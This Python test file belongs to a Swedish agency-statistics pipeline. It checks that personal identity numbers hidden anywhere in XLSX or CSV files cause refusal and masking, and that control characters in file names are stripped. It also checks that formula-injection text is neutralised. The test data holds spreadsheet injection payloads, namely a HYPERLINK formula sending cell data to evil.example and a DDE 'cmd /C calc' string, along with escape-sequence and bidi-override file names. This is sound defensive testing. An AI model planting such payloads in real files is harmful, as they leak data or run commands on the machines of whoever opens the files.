"""Personal data and hostile text never get through (issue 8, item 10).

One case per place an identity number can hide in an agency file (its name, a spaced number, a formula
without a saved value, header/footer, document properties, a hyperlink, a validation list, a defined
name, a comment, a sheet name, CSV text): the real ``mvk ingest`` refuses the file, keeps nothing but a
masked report, and the full number is in no output and no file of the data and output folders. Then
formula injection through a real build, kommun codes in a county-level source, formula cells named
as formulas, control characters in file names, and files that look like agency reports without
being one, through the CLI and the inbox sensor.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import dagster as dg
import openpyxl
import pytest
from openpyxl.comments import Comment
from openpyxl.packaging.custom import StringProperty
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from indicators.harmonise import read_source_table, table_to_observations
from indicators.intake import validate_any
from indicators.programme.identity_numbers import (
    find_identity_numbers,
    mask_identity_numbers,
    refuse_identity_numbers,
    safe_file_name,
    safe_text,
)
from indicators.readers import ReaderError
from indicators.sources import load_sources, parse_source_spec
from pipelines import cli
from reports.cell_safety import is_live, neutralise, neutralise_frame, safe_csv_writer
from tests.conftest import PROJECT_ROOT

PNR = "19121212-1212"              # Skatteverket's test number (a valid date and check digit)
MASKED = "19121212-****"
FORMS = ("19121212-1212", "191212121212", "19121212 1212", "121212-1212", "1212121212")
SHIPPED = PROJECT_ROOT / "data"
SUBMISSION_XLSX = SHIPPED / "submissions" / "polisen_2025.xlsx"
SUBMISSION_CSV = SHIPPED / "submissions" / "skolverket_2025.csv"
STATS_XLSX = (SHIPPED / "sources" / "socialstyrelsen_oj_police_agreement" /
              "oj_vald_i_nara_relationer_police_agreement_lan_2017-2024.xlsx")
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


# --- helpers ------------------------------------------------------------------------------------------
def _save(wb) -> bytes:
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def _edited(path: Path, change) -> bytes:
    wb = openpyxl.load_workbook(path)
    change(wb)
    return _save(wb)


def _blobs(path: Path):
    """Every byte string a folder holds, with each zip member (XLSX) opened: compression hides text."""
    for item in path.rglob("*"):
        if not item.is_file():
            continue
        content = item.read_bytes()
        yield str(item), item.name.encode("utf-8", "surrogateescape")
        yield str(item), content
        if content.startswith(b"PK"):
            try:
                with zipfile.ZipFile(io.BytesIO(content)) as archive:
                    for member in archive.namelist():
                        yield f"{item}!{member}", archive.read(member)
            except zipfile.BadZipFile:
                pass


def assert_no_number_anywhere(*folders: Path, texts: tuple[str, ...] = ()) -> None:
    for text in texts:
        for form in FORMS:
            assert form not in text
    for folder in folders:
        for where, blob in _blobs(folder):
            for form in FORMS:
                assert form.encode() not in blob, where
                assert form.encode("utf-16-le") not in blob, where


def ingest(data: Path, out: Path, path: Path, capsys, lang: str = "en") -> tuple[int, str, str]:
    code = cli.main(["ingest", str(path), "--data-dir", str(data), "--out", str(out), "--lang", lang])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def _csv_submission(change_rows=None, extra: list[list[str]] | None = None) -> bytes:
    rows = list(csv.reader(io.StringIO(SUBMISSION_CSV.read_text(encoding="utf-8")), delimiter=";"))
    if change_rows:
        change_rows(rows)
    rows += extra or []
    out = io.StringIO()
    csv.writer(out, delimiter=";", lineterminator="\n").writerows(rows)
    return out.getvalue().encode("utf-8")


def _set_narrative(rows: list[list[str]], measure: str, text: str, column: str = "beskrivning") -> None:
    index = rows[0].index(column)
    for row in rows[1:]:
        if row[3] == measure:
            row[index] = text


# --- identity numbers: the detector -------------------------------------------------------------------
@pytest.mark.parametrize(("text", "masked"), [
    ("19121212 1212", MASKED),                      # written with a space
    ("121212 1212", "121212-****"),
    ("191212121212", MASKED),
    ("121212+1212", "121212+****"),
    (f"ärende {PNR} avslutat", MASKED),
    ("19121212\u00a01212", MASKED),                 # a no-break space
    ("1912\u200b1212-12\u00ad12", MASKED),          # split by a zero-width space and a soft hyphen
])
def test_every_written_form_is_found(text, masked) -> None:
    assert [m.masked for m in find_identity_numbers(text)] == [masked]


@pytest.mark.parametrize("text", [
    "0,1212121212",            # the fraction of a computed share, not a person
    "0.1212121212",
    "08-123 456 78", "070-123 45 67", "1 250 000 kr", "Ä 2024-1234", "2024 1212",
])
def test_ordinary_numbers_are_not_identity_numbers(text) -> None:
    assert find_identity_numbers(text) == []


def test_safe_text_masks_and_removes_control_and_bidi_characters() -> None:
    hostile = f"rapport\x1b[2J\u202egpj.{PNR}\n.csv"
    shown = safe_text(hostile)
    assert "\x1b" not in shown and "\u202e" not in shown and "\n" not in shown and PNR not in shown
    assert MASKED in shown
    assert safe_file_name(hostile) == "rapport_[2J_gpj.19121212-XXXX_.csv"
    assert safe_file_name('a<b>:"c|?*.csv') == "a_b___c___.csv"
    assert mask_identity_numbers("inget") == "inget"
    assert mask_identity_numbers("nr 1912\u200b1212-1212.") == f"nr {MASKED}."


def test_shipped_files_hold_no_identity_number() -> None:
    """The scan may not refuse real statistics: every shipped source and submission passes it."""
    for path in [*(SHIPPED / "sources").rglob("*"), *(SHIPPED / "submissions").rglob("*")]:
        if path.is_file():
            refuse_identity_numbers(path.read_bytes(), name=path.name)


# --- identity numbers: one case per hiding place, through the real CLI --------------------------------
def _file_name(tmp: Path) -> Path:
    path = tmp / f"polisen_2025_{PNR}.xlsx"
    path.write_bytes(SUBMISSION_XLSX.read_bytes())
    return path


def _spaced(tmp: Path) -> Path:
    path = tmp / "skolverket_2025_ny.csv"
    path.write_bytes(_csv_submission(lambda rows: _set_narrative(
        rows, "A010", "Illustrativt exempel – samtal med 19121212 1212 i mars.")))
    return path


def _formula_without_value(tmp: Path) -> Path:
    def change(wb):
        wb["Åtgärder"]["Z40"] = '="Kontakt: "&"19121212-1212"'    # openpyxl saves no value for it
    path = tmp / "polisen_2025_formel.xlsx"
    path.write_bytes(_edited(SUBMISSION_XLSX, change))
    return path


def _header_footer(tmp: Path) -> Path:
    def change(wb):
        wb["Tabell 1"].oddFooter.left.text = f"Handläggare {PNR}"
    path = tmp / "oj_sidfot.xlsx"
    path.write_bytes(_edited(STATS_XLSX, change))
    return path


def _document_property(tmp: Path) -> Path:
    def change(wb):
        wb.custom_doc_props.append(StringProperty(name="Handläggare", value=f"Ärende för {PNR}"))
    path = tmp / "polisen_2025_egenskap.xlsx"
    path.write_bytes(_edited(SUBMISSION_XLSX, change))
    return path


def _hyperlink(tmp: Path) -> Path:
    def change(wb):
        wb["Tabell 1"]["A5"].hyperlink = "https://example.se/arende?pnr=191212121212"
    path = tmp / "oj_lank.xlsx"
    path.write_bytes(_edited(STATS_XLSX, change))
    return path


def _validation_list(tmp: Path) -> Path:
    def change(wb):
        rule = DataValidation(type="list", formula1=f'"ja,nej,{PNR}"')
        wb["Åtgärder"].add_data_validation(rule)
        rule.add("Z41")
    path = tmp / "polisen_2025_lista.xlsx"
    path.write_bytes(_edited(SUBMISSION_XLSX, change))
    return path


def _defined_name(tmp: Path) -> Path:
    def change(wb):
        wb.defined_names["Urval"] = DefinedName("Urval", attr_text=f'"{PNR}"')
    path = tmp / "oj_namn.xlsx"
    path.write_bytes(_edited(STATS_XLSX, change))
    return path


def _comment(tmp: Path) -> Path:
    def change(wb):
        wb["Tabell 1"]["C6"].comment = Comment(f"Uppgift från {PNR}", "handläggare")
    path = tmp / "oj_kommentar.xlsx"
    path.write_bytes(_edited(STATS_XLSX, change))
    return path


def _sheet_name(tmp: Path) -> Path:
    def change(wb):
        wb["Innehåll"].title = f"Om {PNR}"
    path = tmp / "oj_bladnamn.xlsx"
    path.write_bytes(_edited(STATS_XLSX, change))
    return path


def _csv_text(tmp: Path) -> Path:
    source = SHIPPED / "sources" / "bra_reported_gross_violation"
    original = next(p for p in source.iterdir() if p.suffix == ".csv").read_text(encoding="utf-8")
    path = tmp / "anmalda_lan.csv"
    path.write_text(f"Anmälda brott, uppgiftslämnare {PNR}\n{original}", encoding="utf-8")
    return path


PLACES = {"file name": (_file_name, "file name"), "spaced number": (_spaced, 'column "beskrivning"'),
          "formula without a saved value": (_formula_without_value, "Åtgärder!Z40 (formel/formula)"),
          "header/footer": (_header_footer, "header-footer"),
          "document property": (_document_property, "docProps/custom.xml (Handläggare)"),
          "hyperlink": (_hyperlink, "Tabell 1!A5 (hyperlänk/hyperlink)"),
          "validation list": (_validation_list, "Åtgärder!Z41 (listvalidering/data validation)"),
          "defined name": (_defined_name, "defined name Urval"),
          "comment": (_comment, "Tabell 1!C6"),
          "sheet name": (_sheet_name, "sheet name"),
          "CSV text": (_csv_text, "line 1")}


@pytest.mark.parametrize("place", list(PLACES))
def test_identity_number_anywhere_refuses_the_file_and_nothing_is_kept(place, analyst, tmp_path, capsys) -> None:
    data, out = analyst
    make, located = PLACES[place]
    incoming = tmp_path / "incoming"
    incoming.mkdir()
    path = make(incoming)
    warehouse = (out / "warehouse" / "warehouse.duckdb").read_bytes()

    code, stdout, stderr = ingest(data, out, path, capsys)

    assert code == 1
    assert MASKED in stderr and located in stderr, stderr            # located, and shown masked only
    assert (out / "warehouse" / "warehouse.duckdb").read_bytes() == warehouse
    quarantine = list((data / "quarantine").iterdir())
    assert len(quarantine) == 1 and quarantine[0].name.endswith(".report.txt")   # only the report
    report = quarantine[0].read_text(encoding="utf-8")
    assert MASKED in report and "was not kept" in report
    assert_no_number_anywhere(data, out, texts=(stdout, stderr))


def test_number_in_the_name_of_a_file_already_in_the_submissions_folder_is_refused(tmp_path) -> None:
    """A file put in DATA_DIR/submissions/ by hand goes through the same reader: the name is checked."""
    from indicators.programme.register import load_register
    from indicators.programme.submission import read_submission

    with pytest.raises(ReaderError) as caught:
        read_submission(SUBMISSION_CSV.read_bytes(), file=f"skolverket_{PNR}.csv", register=load_register(SHIPPED))
    error = caught.value
    assert error.key == "programme.identity_number" and error.location == "filnamn/file name"
    assert error.file == f"skolverket_{MASKED}.csv"
    assert all(form not in error.message(lang) for form in FORMS for lang in ("sv", "en"))


def test_a_number_in_the_provenance_file_beside_it_refuses_the_file(tmp_path) -> None:
    path = tmp_path / "skolverket_2025.csv"
    path.write_bytes(SUBMISSION_CSV.read_bytes())
    (tmp_path / "skolverket_2025.csv.provenance.yaml").write_text(
        f"reliability: V\nnote: uppgiftslämnare {PNR}\n", encoding="utf-8")
    with pytest.raises(ReaderError) as caught:
        validate_any(path, data_dir=SHIPPED)
    error = caught.value
    assert error.key == "programme.identity_number" and error.found == MASKED
    assert error.location == "skolverket_2025.csv.provenance.yaml: line 2"
    assert all(form not in error.message("sv") for form in FORMS)


# --- files that are no submission and no source ------------------------------------------------------
def test_agency_files_that_are_not_reports_are_quarantined_with_their_content(analyst, tmp_path, capsys) -> None:
    data, out = analyst
    incoming = tmp_path / "incoming"
    incoming.mkdir()
    almost_csv = incoming / "skolverket_hinder.csv"
    almost_csv.write_text("myndighet;år;beskrivning;hinder\nSkolverket;2025;Oklart mandat;Ny samordnare\n",
                          encoding="utf-8")
    almost_xlsx = incoming / "polisen_utan_lista.xlsx"
    almost_xlsx.write_bytes(_edited(SUBMISSION_XLSX, lambda wb: wb.remove(wb["Lista"])))
    note = incoming / "anteckningar.txt"
    note.write_text("Möte med länsstyrelsen om samverkan.\n", encoding="utf-8")

    for path, key_text, where in ((almost_csv, "looks like an agency report", "line 1"),
                                  (almost_xlsx, "looks like an agency report", "Lista!B1"),
                                  (note, "anteckningar.txt", "anteckningar.txt")):
        code, _, stderr = ingest(data, out, path, capsys)
        assert code == 1 and key_text in stderr and where in stderr, stderr
        kept = [p for p in (data / "quarantine").iterdir() if p.name.endswith("_" + path.name)]
        assert len(kept) == 1 and kept[0].read_bytes() == path.read_bytes()      # with its content
        assert kept[0].with_name(kept[0].name + ".report.txt").is_file()


# --- control characters in file names -----------------------------------------------------------------
def test_control_characters_in_a_file_name_reach_no_message_and_no_file_name(analyst, tmp_path, capsys) -> None:
    data, out = analyst
    incoming = tmp_path / "incoming"
    incoming.mkdir()
    hostile = incoming / "skolverket\x1b[31m_2025\u202egpj.csv"
    hostile.write_bytes(SUBMISSION_CSV.read_bytes())
    ledgers = {p: p.read_bytes() for p in data.rglob(".ingest_order")}

    code, stdout, stderr = ingest(data, out, hostile, capsys)

    assert code == 1 and "U+001B" in stderr and "U+202E" in stderr
    for text in (stdout, stderr):
        assert "\x1b" not in text and "\u202e" not in text
    names = [p.name for p in (data / "quarantine").iterdir()]
    assert len(names) == 2 and all("\x1b" not in n and "\u202e" not in n for n in names)
    kept = next(p for p in (data / "quarantine").iterdir() if not p.name.endswith(".report.txt"))
    assert kept.name.endswith("skolverket_[31m_2025_gpj.csv") and kept.read_bytes() == hostile.read_bytes()
    report = (data / "quarantine" / (kept.name + ".report.txt")).read_text(encoding="utf-8")
    assert "\x1b" not in report and "\u202e" not in report
    assert {p: p.read_bytes() for p in data.rglob(".ingest_order")} == ledgers        # nothing filed
    assert not any("\x1b" in p.name for p in data.rglob("*"))


def test_inbox_sensor_routes_hostile_and_unrecognised_files_the_same_way(tmp_path, monkeypatch) -> None:
    """Evaluation only looks (nothing moves, no number in any request); each requested run then sets its
    file aside: the one with an identity number is not kept at all, the others with a report."""
    import os
    import shutil
    import time

    from pipelines.definitions import defs
    from pipelines.defs.sensors import inbox_sensor
    from pipelines.settings import FollowupPaths

    data, out = tmp_path / "data", tmp_path / "out"
    shutil.copytree(SHIPPED, data, ignore=shutil.ignore_patterns("*.py"))
    for key, value in (("MVK_DATA_DIR", data), ("MVK_OUT_DIR", out), ("MVK_LANG", "sv")):
        monkeypatch.setenv(key, str(value))
    inbox = data / "inbox"
    inbox.mkdir()
    (inbox / f"rapport_{PNR}.csv").write_bytes(SUBMISSION_CSV.read_bytes())
    (inbox / "skolverket_hinder.csv").write_text("myndighet;år;beskrivning;hinder\nSkolverket;2025;a;b\n",
                                                 encoding="utf-8")
    (inbox / "lista\u202e.csv").write_bytes(SUBMISSION_CSV.read_bytes())
    settled = time.time() - 60           # a file still being copied in is left for the next evaluation
    for path in inbox.iterdir():
        os.utime(path, (settled, settled))
    definitions = defs()
    with dg.instance_for_test() as instance:
        paths = FollowupPaths(data_dir=str(data), out_dir=str(out))
        result = inbox_sensor(dg.build_sensor_context(instance=instance, resources={"paths": paths},
                                                      definitions=definitions))
        assert len(result.run_requests) == 3 and len(list(inbox.iterdir())) == 3     # evaluation moved nothing
        for request in result.run_requests:
            shown = repr((request.tags, request.run_config, request.run_key))
            assert PNR not in shown and PNR.replace("-", "") not in shown and "\u202e" not in shown
            job = definitions.resolve_job_def(request.job_name)
            job.execute_in_process(run_config=request.run_config, instance=instance, raise_on_error=False,
                                   asset_selection=request.asset_selection,
                                   tags={**request.tags, "dagster/run_key": request.run_key})
    assert list(inbox.iterdir()) == []
    names = sorted(p.name for p in (data / "quarantine").iterdir())
    assert sum(n.endswith("rapport_19121212-XXXX.csv.report.txt") for n in names) == 1
    assert not any(n.endswith("rapport_19121212-XXXX.csv") for n in names)           # the file is not kept
    assert any(n.endswith("_skolverket_hinder.csv") for n in names)                 # kept, with content
    assert any(n.endswith("_lista_.csv") for n in names) and not any("\u202e" in n for n in names)
    assert_no_number_anywhere(data)


# --- formula injection --------------------------------------------------------------------------------
@pytest.mark.parametrize(("text", "shown"), [
    ('=HYPERLINK("http://evil.example/?"&A1,"Klicka")', '\'=HYPERLINK("http://evil.example/?"&A1,"Klicka")'),
    ("+1+1", "'+1+1"), ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("  =1+1", "'  =1+1"), ("\uff1d1+1", "'\uff1d1+1"),
    ("Vanlig text", "Vanlig text"), ("-3.5", "-3.5"), ("-12", "-12"), ("-0,8", "-0,8"), ("", ""),
])
def test_neutralise_follows_the_owasp_rule(text, shown) -> None:
    assert neutralise(text) == shown


def test_numbers_stay_numbers() -> None:
    import pandas as pd

    assert neutralise(-3.5) == -3.5 and neutralise(-12) == -12 and neutralise(None) is None
    frame = pd.DataFrame({"text": ["=1+1", "ok"], "value": [-3.5, 2.0], "count": [-1, 4]})
    safe = neutralise_frame(frame)
    assert list(safe["text"]) == ["'=1+1", "ok"] and list(safe["value"]) == [-3.5, 2.0]
    assert list(safe["count"]) == [-1, 4] and list(frame["text"]) == ["=1+1", "ok"]
    out = io.StringIO()
    safe_csv_writer(out, lineterminator="\n").writerow(["@x", -1, "-1", 2.5])
    assert out.getvalue() == "'@x,-1,-1,2.5\n"


def test_workbook_cells_are_never_live_formulas() -> None:
    from openpyxl import Workbook

    from reports.workbook import _write_table, _write_text_rows

    wb = Workbook()
    ws = wb.active
    last = _write_text_rows(ws, [("=HYPERLINK(\"http://evil.example\")", None)])
    _write_table(ws, name="T1", first_row=last + 2, headers=["Text", "Värde"],
                 rows=[["+SUM(1)", -3.5], ["@A1", 4]], formats={1: "0.0"})
    reread = openpyxl.load_workbook(io.BytesIO(_save(wb)))
    cells = [c for row in reread.active.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    values = [c.value for c in cells]
    assert "'=HYPERLINK(\"http://evil.example\")" in values and "'+SUM(1)" in values and "'@A1" in values
    assert -3.5 in values and 4 in values                                            # numbers stay numbers


def test_agency_text_reaches_the_downloads_neutralised_after_a_real_build(analyst, tmp_path, capsys) -> None:
    data, out = analyst
    hyperlink = '=HYPERLINK("http://evil.example/?d="&A1,"Klicka här")'

    def change(rows):
        _set_narrative(rows, "A010", hyperlink)          # a measure Skolverket leads: on measure_status
        _set_narrative(rows, "A028", "@SUM(1+1)*cmd|' /C calc'!A0", column="underlag")
    header = list(csv.reader(io.StringIO(SUBMISSION_CSV.read_text(encoding="utf-8")), delimiter=";"))[0]

    def obstacle(category: str, text: str, solution: str) -> list[str]:
        row = dict.fromkeys(header, "")
        row.update({"myndighet": "Skolverket", "år": "2025", "del": "samverkan", "kategori": category,
                    "hinder": text, "lösning": solution})
        return [row[name] for name in header]
    path = tmp_path / "skolverket_2025_rattad.csv"
    path.write_bytes(_csv_submission(change, [obstacle("resurser", hyperlink, "+1+1"),
                                              obstacle("kompetens", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)")]))

    code, stdout, stderr = ingest(data, out, path, capsys)
    assert code == 0, stdout + stderr

    programme = out / "site" / "data" / "programme"
    obstacles = list(csv.reader(io.StringIO((programme / "obstacles.csv").read_text(encoding="utf-8"))))
    cells = [cell for row in obstacles for cell in row]
    for shown in ("'" + hyperlink, "'+1+1", "'-2+3+cmd|' /C calc'!A0", "'@SUM(A1)"):
        assert shown in cells, shown
    status = (programme / "measure_status.csv").read_text(encoding="utf-8")
    assert "'" + hyperlink.replace('"', '""') in status
    for csv_file in (out / "site" / "data").rglob("*.csv"):
        for row in csv.reader(io.StringIO(csv_file.read_text(encoding="utf-8"))):
            for cell in row:
                assert not is_live(cell), (csv_file.name, cell)
    for workbook in (out / "site").rglob("*.xlsx"):
        for ws in openpyxl.load_workbook(workbook).worksheets:
            for row in ws.iter_rows():
                for c in row:
                    assert c.data_type != "f", (workbook.name, c.coordinate)
                    assert not (isinstance(c.value, str) and is_live(c.value)), (workbook.name, c.coordinate)


# --- kommun codes in a county-level source -----------------------------------------------------------
def _county_csv(region: str) -> bytes:
    source = SHIPPED / "sources" / "bra_reported_gross_violation"
    text = next(p for p in source.iterdir() if p.suffix == ".csv").read_text(encoding="utf-8")
    lines = text.lstrip("\ufeff").splitlines()
    column = lines[0].split(";").index("Region")
    row = next(i for i, line in enumerate(lines) if "Stockholms län" in line)
    fields = lines[row].split(";")
    fields[column] = region                # in place of Stockholms län
    lines[row] = ";".join(fields)
    return ("\n".join(lines) + "\n").encode("utf-8")


@pytest.mark.parametrize(("region", "found"), [("0180", "0180 = 0180 Stockholm"), ("180", "180 = 0180 Stockholm"),
                                               ("Solna", "Solna = 0184 Solna")])
def test_kommun_code_in_a_county_level_source_is_refused(tmp_path, region, found) -> None:
    path = tmp_path / "anmalda_lan.csv"
    path.write_bytes(_county_csv(region))
    with pytest.raises(ReaderError) as caught:
        validate_any(path, data_dir=SHIPPED, source_id="bra_reported_gross_violation")
    error = caught.value
    assert error.key == "ingest.kommun_in_county_source" and error.found == found
    assert "kommun" in error.message("sv") and "01, 03" in error.message("en")


def test_kommun_level_sources_keep_their_kommuner(tmp_path) -> None:
    import yaml

    doc = yaml.safe_load((PROJECT_ROOT / "indicators" / "sources" / "bra_reported_gross_violation.yaml")
                         .read_text(encoding="utf-8"))
    doc["layout"]["region"]["codes"] = "kommun"
    spec = parse_source_spec(doc)
    data = _county_csv("0180")
    frame = table_to_observations(read_source_table(data, file="k.csv", spec=spec), spec, file="k.csv")
    assert "0180" in set(frame["region"]) and "01" in set(frame["region"])
    with pytest.raises(ReaderError) as caught:                       # a kommun code that lost its zero
        table_to_observations(read_source_table(_county_csv("180"), file="k.csv", spec=spec), spec, file="k.csv")
    assert caught.value.key == "ingest.region_leading_zero" and caught.value.expected == "0180"
    county = load_sources()["bra_reported_gross_violation"]     # and "Stockholm" in a county table is the län
    assert "01" in set(table_to_observations(read_source_table(_county_csv("Stockholm"), file="c.csv", spec=county),
                                             county, file="c.csv")["region"])


# --- formula cells are named as formulas --------------------------------------------------------------
def test_a_formula_cell_is_named_as_a_formula(tmp_path) -> None:
    def change(wb):
        wb["Tabell 1"]["C7"] = "=SUM(C5:C6)"           # no saved value: openpyxl writes none
    path = tmp_path / "oj_formel.xlsx"
    path.write_bytes(_edited(STATS_XLSX, change))
    with pytest.raises(ReaderError) as caught:
        validate_any(path, data_dir=SHIPPED)
    error = caught.value
    assert (error.key, error.location, error.found) == ("reader.xlsx.formula", "Tabell 1!C7", "=SUM(C5:C6)")
    assert "holds a formula, =SUM(C5:C6)" in error.message("en") and "Expected a number" in error.message("en")
    assert "innehåller en formel" in error.message("sv")


def test_a_formula_whose_saved_value_is_an_error_is_named_as_a_formula(tmp_path) -> None:
    data = _edited(STATS_XLSX, lambda wb: wb["Tabell 1"].__setitem__("C7", "=C5/0"))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    sheet = next(name for name, content in parts.items() if b"<f>C5/0</f>" in content)
    parts[sheet] = re.sub(rb'<c r="C7"><f>C5/0</f><v\s*(/>|></v>)',        # <v/> or <v></v>, by XML writer
                          b'<c r="C7" t="e"><f>C5/0</f><v>#DIV/0!</v>', parts[sheet])   # as Excel saves it
    assert b"#DIV/0!" in parts[sheet]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    path = tmp_path / "oj_div0.xlsx"
    path.write_bytes(buffer.getvalue())
    with pytest.raises(ReaderError) as caught:
        validate_any(path, data_dir=SHIPPED)
    error = caught.value
    assert (error.key, error.location, error.found, error.expected) == (
        "reader.xlsx.formula", "Tabell 1!C7", "=C5/0", "#DIV/0!")
